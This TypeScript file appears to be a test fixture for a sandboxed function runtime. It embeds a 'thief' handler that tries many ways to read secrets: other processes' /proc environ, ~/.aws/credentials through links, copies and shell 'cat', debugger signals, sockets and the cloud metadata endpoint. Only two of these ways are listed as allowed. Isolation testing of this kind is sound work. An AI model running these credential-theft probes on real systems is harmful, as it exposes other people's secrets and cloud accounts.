/**
 * Source of a handler that tries every way we know to secrets of the machine it runs on: of the process with id
 * `pid` and in `file` (or `only` some of the ways). It answers with what each way gave, and with `batchItemFailures` as a good worker does.
 */
export const thief = `
import childProcess from 'node:child_process';
import cluster from 'node:cluster';
import fs from 'node:fs';
import { readFile } from 'node:fs/promises';
import http from 'node:http';
import inspector from 'node:inspector';
import { createRequire } from 'node:module';
import net from 'node:net';
import os from 'node:os';
import { Worker } from 'node:worker_threads';
const require = createRequire(import.meta.url);
const { readFileSync } = fs;
const streamed = (stream) => new Promise((resolve, reject) => {
  let text = '';
  stream.on('error', reject).on('data', (chunk) => (text += chunk)).on('end', () => resolve(text));
});
const fetched = (options) => new Promise((resolve, reject) =>
  http.get(options, (response) => resolve(streamed(response))).on('error', reject));

const ways = ({ pid, file, socket }) => ({
  'own variables': () => JSON.stringify(process.env),
  'own report': () => JSON.stringify(process.report.getReport().environmentVariables),
  'environment of a process': () => readFileSync('/proc/' + pid + '/environ', 'utf8'),
  'environment of the parent': () => readFile('/proc/' + process.ppid + '/environ', 'utf8'),
  'own environment at the start': () => readFileSync('/proc/self/environ', 'utf8'),
  'every process': () => fs.readdirSync('/proc').filter((name) => Number(name) > 0).map((id) => {
    try { return readFileSync('/proc/' + id + '/environ', 'utf8'); } catch { return ''; }
  }).join(),
  'up from /tmp': () => readFileSync('/tmp/../../../../../../proc/' + pid + '/environ', 'utf8'),
  'up from the code': () => readFileSync(new URL('../../../../../../proc/' + pid + '/environ', import.meta.url), 'utf8'),
  'a path in bytes': () => readFileSync(Buffer.from('/tmp/../proc/' + pid + '/environ'), 'utf8'),
  'credentials file': () => readFileSync(file, 'utf8'),
  'credentials file in a stream': () => streamed(fs.createReadStream(file)),
  'credentials file by its number': () => { const fd = fs.openSync(file); return readFileSync(fd, 'utf8'); },
  'credentials file as a blob': async () => (await fs.openAsBlob(file)).text(),
  'credentials file as an environment file': () => { process.loadEnvFile(file); return JSON.stringify(process.env); },
  'credentials file as a module': () => require(file),
  'credentials file as JSON': () => import(file, { with: { type: 'json' } }),
  'a copy': () => { fs.copyFileSync(file, '/tmp/copy'); return readFileSync('/tmp/copy', 'utf8'); },
  'a link': () => { fs.symlinkSync(file, os.tmpdir() + '/link'); return readFileSync('/tmp/link', 'utf8'); },
  'a hard link': () => { fs.linkSync(file, '/tmp/hard'); return readFileSync('/tmp/hard', 'utf8'); },
  'home folder': () => fs.readdirSync(os.homedir()).join(),
  'a command': () => childProcess.execSync('cat ' + file, { encoding: 'utf8' }),
  'a fork': () => cluster.fork(),
  'another program in this process': () => process.execve('/bin/cat', ['cat', file]),
  'a thread': () => new Worker('', { eval: true }),
  'internals': () => process.binding('fs'),
  'a database': () => new (require('node:sqlite').DatabaseSync)(file),
  'native code': () => process.dlopen({ exports: {} }, file),
  'own debugger': () => inspector.open(0),
  'debugger of a process': () => process.kill(pid, 'SIGUSR1'),
  'debugger of a process, inside': () => process._kill(pid, os.constants.signals.SIGUSR1),
  'debugger of a process, by name': () => process._debugProcess(pid),
  'a socket that is a file': () => fetched({ socketPath: socket, path: '/' }),
  'a socket that is a file, bare': () => streamed(net.connect(socket)),
  'metadata of a virtual machine': () => fetched('http://169.254.169.254/latest/meta-data/'),
});

export const handler = async ({ pid = process.ppid, file = os.homedir() + '/.aws/credentials', socket = '/tmp/../s', only }) => {
  const stolen = {};
  for (const [way, steal] of Object.entries(ways({ pid, file, socket }))) {
    if (only !== undefined && !only.includes(way)) continue;
    try {
      stolen[way] = String(await steal());
    } catch (error) {
      stolen[way] = error.code ?? error.name;
    }
  }
  return { batchItemFailures: [{ itemIdentifier: 'poison' }], stolen };
};
`;

/** The ways that get something: the function's own. All others are refused. */
export const allowedWays: readonly string[] = ['own variables', 'own report'];
